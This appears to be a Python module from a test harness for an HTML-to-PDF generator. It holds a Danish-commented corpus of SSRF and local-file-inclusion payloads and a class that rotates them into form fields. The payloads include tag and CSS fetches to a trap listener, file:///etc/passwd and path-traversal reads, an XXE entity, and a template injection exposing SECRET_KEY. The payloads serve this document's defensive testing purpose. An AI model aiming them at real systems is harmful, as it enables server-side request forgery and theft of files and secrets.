"""Nyttelaster, der får en PDF til at hente noget udefra eller lægge en lokal fil ved.

``FAELDE`` er en rigtig HTTP-lytter på maskinen, ``FIL`` er en fil, ingen PDF må rumme, og
``BILLEDE`` er et billede på disken. Ingen nyttelast er uafsluttet: den må ikke sluge de andre.
"""

from __future__ import annotations

from base64 import b64encode
from dataclasses import dataclass, field

_SVG = '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
ELEMENTER = (
    "<img src=FAELDE>", '<img src="FAELDE">', "<IMG SRC='FAELDE'>", '<img srcset="FAELDE 1x">',
    "<img src=BILLEDE>", "<img src=FIL>", "<img src=//FAELDE_VAERT/x>", "<img/src=FAELDE/>",
    "<picture><source srcset=FAELDE><img src=FAELDE></picture>", "<image href=FAELDE></image>",
    "<object data=FAELDE></object>", "<object data=FIL></object>", "<embed src=FAELDE>",
    "<object data=BILLEDE type=image/png></object>", "<iframe src=FAELDE></iframe>",
    "<iframe src=FIL></iframe>", "<video poster=FAELDE></video>", "<audio src=FAELDE></audio>",
    "<input type=image src=FAELDE>", "<base href=FAELDE><img src=x.png>",
    "<link rel=stylesheet href=FAELDE>", "<link rel=stylesheet href=FIL>",
    "<link rel=attachment href=FIL>", "<link rel=attachment href=FAELDE>",
    "<a rel=attachment href=FIL>x</a>", "<a rel=attachment href=FAELDE>x</a>",
    "<link rel=icon href=FAELDE>", "<meta http-equiv=refresh content='0;url=FAELDE'>",
    "<script src=FAELDE></script>", "<table background=FAELDE><tr><td>x</td></tr></table>",
)  # fmt: skip
STIL = (
    "<style>@import 'FAELDE';</style>", "<style>@import url(FAELDE) print;</style>",
    "<style>@import url(FIL);</style>", "<style>*{background:url(FAELDE)}</style>",
    "<style>@page{background:url(FAELDE)}</style>",
    "<style>@page{@top-left{content:url(FAELDE)}}</style>",
    "<style>@font-face{font-family:onde;src:url(FAELDE)}*{font-family:onde}</style>",
    "<style>@font-face{font-family:onde2;src:url(FIL)}*{font-family:onde2}</style>",
    "<p style='background:url(FAELDE)'>x</p>", "<p style='background:url(\"BILLEDE\")'>x</p>",
    "<p style='background-image:u\\72l(FAELDE)'>x</p>",
    "<p style='border-image:url(FAELDE) 1'>x</p>",
    "<ul style='list-style-image:url(FAELDE)'><li>x</li></ul>",
    "<p style='content:url(FAELDE)'>x</p>", "<style>p::before{content:url(FAELDE)}</style>",
)  # fmt: skip
SVG = (
    _SVG.format('<image xlink:href="FAELDE" width="9" height="9"/>'),
    _SVG.format('<image href="BILLEDE" width="9" height="9"/>'),
    _SVG.format('<use xlink:href="FAELDE#x"/>'),
    _SVG.format("<style>@import url(FAELDE);</style><rect width='9' height='9'/>"),
    "<img src='data:image/svg+xml;base64,INDLEJRET'>",
    "<object data='data:image/svg+xml;base64,INDLEJRET'></object>",
    "<p style='background:url(data:image/svg+xml;base64,INDLEJRET)'>x</p>",
)
SKEMAER = (
    "<img src=gopher://FAELDE_VAERT/x>", "<img src=ftp://FAELDE_VAERT/x>", "<img src=FILE:///etc/passwd>",
    "<img src=file://localhost/etc/passwd>", "<img src=/etc/passwd>", "<img src=jar:FAELDE!/x>",
    "<img src=php://filter/resource=FAELDE>", "<img src=dict://FAELDE_VAERT/x>",
    "<img src='data:text/html,<img src=FAELDE>'>",
    "<iframe src='data:text/html,<img src=FAELDE>'></iframe>",
    "<img src=\"data:text/html;base64,PGltZz4=\">", "<img src=HTTP://FAELDE_VAERT/x>",
    "<img src='&#104;ttp://FAELDE_VAERT/x'>", "<img src='skrift:../../../../etc/passwd'>",
)  # fmt: skip
UD_AF_TEKSTEN = (
    '"><img src=FAELDE>', "'><img src=FAELDE>", "</bdi></td></tr></table><img src=FAELDE>",
    "</title><link rel=stylesheet href=FAELDE>", "</style><img src=FAELDE>", "--><img src=FAELDE>",
    "]]><img src=FAELDE>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'FIL'>]><p>&e;</p>",
    "<?xml-stylesheet href='FAELDE'?>", "<xi:include href='FIL' parse='text'/>",
    "{% include 'FIL' %}{{ settings.SECRET_KEY }}", "url(FAELDE)", "FAELDE", "FIL",
)  # fmt: skip
NYTTELASTER = (*ELEMENTER, *STIL, *SVG, *SKEMAER, *UD_AF_TEKSTEN)
PR_FELT = 3
"""Så mange nyttelaster står efter hinanden i hvert felt."""
RUNDER = -(-len(NYTTELASTER) // PR_FELT)
"""Så mange runder skal der til, før hvert felt har haft dem alle."""


@dataclass(slots=True)
class Runde:
    """Felterne spørger i samme orden; hvert begynder et andet sted i korpusset."""

    nr: int
    faelde: str
    fil: str
    billede: str
    felter: list[str] = field(default_factory=list)

    def tekst(self, felt: str) -> str:
        """Feltets nyttelaster i denne runde."""
        foerste = self.nr * PR_FELT + len(self.felter)
        self.felter.append(felt)
        return " ".join(
            self._udfyldt(NYTTELASTER[nr % len(NYTTELASTER)])
            for nr in range(foerste, foerste + PR_FELT)
        )

    @property
    def forsoeg(self) -> int:
        """Nyttelast × felt i denne runde."""
        return PR_FELT * len(self.felter)

    def _udfyldt(self, nyttelast: str) -> str:
        indlejret = _SVG.format(f'<image xlink:href="{self.faelde}/svg" width="9" height="9"/>')
        indlejret = indlejret.replace("<svg ", '<svg xmlns="http://www.w3.org/2000/svg" ')
        return (
            nyttelast.replace("INDLEJRET", b64encode(indlejret.encode()).decode())
            .replace("FAELDE_VAERT", self.faelde.removeprefix("http://"))
            .replace("FAELDE", f"{self.faelde}/{self.nr}")
            .replace("FIL", self.fil)
            .replace("BILLEDE", self.billede)
        )
